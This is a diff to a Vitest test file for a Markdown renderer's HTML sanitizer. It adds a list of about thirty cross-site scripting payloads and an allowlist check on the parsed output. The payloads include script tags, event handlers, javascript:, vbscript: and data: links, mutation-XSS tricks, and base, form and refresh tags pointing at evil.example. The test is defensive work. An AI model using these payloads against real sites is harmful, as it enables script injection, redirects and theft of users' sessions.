@@ -1,20 +1,67 @@
 // @vitest-environment node
+import type { Root } from 'hast'
+import rehypeRaw from 'rehype-raw'
+import { unified } from 'unified'
+import { visit } from 'unist-util-visit'
 import { expect, test } from 'vitest'
 import { renderMarkdown } from './markdown'
 
 const html = async (markdown: string) => (await renderMarkdown(markdown)).html
 
-test.each([
+const hostile: [string, string][] = [
   ['a script', '<script>alert(1)</script>'],
+  ['a script in capitals, unclosed', '<SCRIPT SRC=//evil.example/x.js>'],
+  ['a nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
   ['an event handler', '<img src="x" onerror="alert(1)">'],
+  ['an event handler behind a slash', '<img/src=x/onload=alert(1)>'],
+  ['an event handler on an open element', '<details open ontoggle="alert(1)">x</details>'],
   ['a script address', '[x](javascript:alert(1))'],
-  ['a frame', '<iframe src="https://example.com"></iframe>'],
+  ['a script address in markup', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
+  ['a script address with a tab', '<a href="java&#9;script:alert(1)">x</a>'],
+  ['a script address of a reference', '[x]\n\n[x]: javascript:alert(1)'],
+  ['an old script address', '<a href="vbscript:msgbox(1)">x</a>'],
+  ['a page in an address', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
+  ['a frame', '<iframe src="https://example.com" srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['an object', '<object data="x.swf"></object><embed src="x.swf">'],
   ['a style', '<p style="position:fixed">x</p>'],
-  ['an svg with a script', '<svg><script>alert(1)</script></svg>'],
+  ['a style with an expression', '<p style="width:expression(alert(1))">x</p>'],
+  ['a style sheet', '<style>@import "//evil.example";</style><link rel="stylesheet" href="//e">'],
+  ['another base', '<base href="https://evil.example/">'],
+  ['a form', '<form action="https://evil.example"><input name=q><button>Go</button></form>'],
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['an svg with a script', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
+  ['an svg with a link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
+  ['maths that turn into markup', '<math><mtext><mglyph><style><img src onerror=alert(1)>'],
+  ['a template', '<template><img src=x onerror=alert(1)></template>'],
+  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
+  ['an attribute that ends early', '<p title="</p><script>alert(1)</script>">x</p>'],
   ['markup in code', '```swift\nlet a = "</code><script>alert(1)</script>"\n```'],
+  ['markup as a language', '```"><script>alert(1)</script>\nx\n```'],
+  ['markup in a callout', ':::note[<img src=x onerror=alert(1)>]\n<script>alert(1)</script>\n:::'],
+  ['attributes of a callout', ':::note{onclick="alert(1)" style="x"}\nBody.\n:::'],
   ['a class of its own', '<p class="cta">x</p>'],
-])('takes %s out', async (_, markdown) => {
-  expect(await html(markdown)).not.toMatch(/<script|onerror|javascript:|<iframe|style=|<svg|class="cta"/)
+]
+
+/** All that articles are made of; whatever runs, loads or restyles something is not among it. */
+const elements =
+  /^(p|a|img|details|summary|pre|code|i|div|span|aside|section|h2|ul|ol|li|em|strong|br)$/
+const properties =
+  /^(href|src|title|alt|className|tabIndex|role|ariaLabel|open|id)$/
+
+/** The elements of `text`, as the parser of browsers sees them. */
+function parsed(text: string): Root {
+  const raw = { type: 'raw', value: text } as unknown as Root['children'][number]
+  return unified().use(rehypeRaw).runSync({ type: 'root', children: [raw] }) as Root
+}
+
+test.each(hostile)('takes %s out', async (_, markdown) => {
+  visit(parsed(await html(`Before.\n\n${markdown}\n\nAfter.`)), 'element', (node) => {
+    expect(node.tagName).toMatch(elements)
+    for (const [name, value] of Object.entries(node.properties)) {
+      expect(name).toMatch(properties)
+      expect(String(value)).not.toMatch(/^\s*(javascript|vbscript|data):|^cta$/i)
+    }
+  })
 })
 
 test('keeps tables, aligned and reachable by the keyboard', async () => {
